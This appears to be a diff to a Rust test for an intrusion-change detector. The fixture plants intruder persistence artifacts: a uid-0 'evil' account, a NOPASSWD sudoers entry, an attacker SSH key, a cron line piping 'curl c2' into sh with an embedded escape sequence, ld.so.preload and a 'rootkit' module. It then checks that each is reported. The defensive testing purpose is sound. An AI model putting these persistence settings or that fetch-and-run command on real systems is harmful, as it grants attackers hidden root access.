@@ -13,13 +13,13 @@ fn changes(before: &MemoryFiles, after: &MemoryFiles) -> Vec<String> {
 
 fn linux() -> MemoryFiles {
     [
-        ("/etc/passwd", "root:x:0:0::/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/bash\n"),
+        ("/etc/passwd", "root:x:0:0::/top:/bin/bash\nann:x:1000:1000::/people/ann:/bin/bash\n"),
         ("/etc/shadow", "root:!:1\nann:$6$saltsalt$secretsecret:1\n"),
         ("/etc/group", "sudo:x:27:\nann:x:1000:\n"),
         ("/etc/sudoers", "%sudo ALL=(ALL:ALL) ALL\n"),
         ("/etc/ssh/sshd_config", "Port 22\nPasswordAuthentication no\n"),
         ("/etc/crontab", "# nothing\n"),
-        ("/home/ann/.bashrc", "alias l=ls\n"),
+        ("/people/ann/.bashrc", "alias l=ls\n"),
     ]
     .into_iter()
     .collect()
@@ -32,26 +32,26 @@ fn what_an_intruder_leaves_on_linux_is_told() {
     assert_eq!(changes(&before, &after), [""; 0]);
     let shadow = "root:!:1\nann:$6$saltsalt$anothersecret:1\nevil:$y$j9T$salt$hiddenhidden:1\n";
     let passwd =
-        "root:x:0:0::/root:/bin/bash\nann:x:1000:1000::/home/ann:/bin/bash\nevil:x:0:0::/root:/bin/sh\n";
+        "root:x:0:0::/top:/bin/bash\nann:x:1000:1000::/people/ann:/bin/bash\nevil:x:0:0::/top:/bin/sh\n";
     after.add("/etc/passwd", passwd);
     after.add("/etc/shadow", shadow);
     after.add("/etc/group", "sudo:x:27:evil\nann:x:1000:\n");
     after.add("/etc/sudoers.d/90", "evil ALL=(ALL) NOPASSWD: ALL\n");
     after.add("/etc/ssh/sshd_config", "Port 22\nPort 2222\nPasswordAuthentication yes\n");
-    after.add("/root/.ssh/authorized_keys", format!("ssh-ed25519 {}THE-END evil@c2\n", "A".repeat(60)));
+    after.add("/top/.ssh/authorized_keys", format!("ssh-ed25519 {}THE-END evil@c2\n", "A".repeat(60)));
     after.add("/etc/cron.d/x", "* * * * * root curl c2|sh\x1b[2J\n");
     after.add("/etc/systemd/system/x.service", "[Service]\nExecStart=/bin/x\n");
     after.add("/etc/systemd/system/multi-user.target.wants/x.service", "");
     after.add("/etc/systemd/system/x.socket", "[Socket]\nListenStream=31337\n");
     after.add("/etc/ld.so.preload", "/lib/x.so\n");
     after.add("/etc/modules-load.d/x.conf", "rootkit\n");
-    after.add("/home/ann/.bashrc", "alias s=sh\n");
+    after.add("/people/ann/.bashrc", "alias s=sh\n");
     let told = changes(&before, &after);
     let expect = [
-        "account evil: - > number 0, group 0, home /root, shell /bin/sh",
+        "account evil: - > number 0, group 0, home /top, shell /bin/sh",
         // As an account with the home of root, it takes the keys of root.
-        "authorized key evil: ssh-ed25519 ...AAAAATHE-END evil@c2: - > /root/.ssh/authorized_keys",
-        "authorized key root: ssh-ed25519 ...AAAAATHE-END evil@c2: - > /root/.ssh/authorized_keys",
+        "authorized key evil: ssh-ed25519 ...AAAAATHE-END evil@c2: - > /top/.ssh/authorized_keys",
+        "authorized key root: ssh-ed25519 ...AAAAATHE-END evil@c2: - > /top/.ssh/authorized_keys",
         "cron /etc/cron.d/x: * * * * * root curl c2|sh\u{fffd}[2J: - > set",
         "enabled service /etc/systemd/system/multi-user.target.wants/x.service: - > enabled",
         "kernel module /etc/modules-load.d/x.conf: rootkit: - > set",
@@ -61,7 +61,7 @@ fn what_an_intruder_leaves_on_linux_is_told() {
         "password ann: set > set (changed)",
         "password evil: - > set",
         "preload /etc/ld.so.preload: /lib/x.so: - > set",
-        "profile script /home/ann/.bashrc: 11 bytes > 11 bytes (changed)",
+        "profile script /people/ann/.bashrc: 11 bytes > 11 bytes (changed)",
         "service /etc/systemd/system/x.service: - > 27 bytes, ExecStart=/bin/x",
         "sshd passwordauthentication: no > yes",
         "sudo /etc/sudoers.d/90: evil ALL=(ALL) NOPASSWD: ALL: - > set",
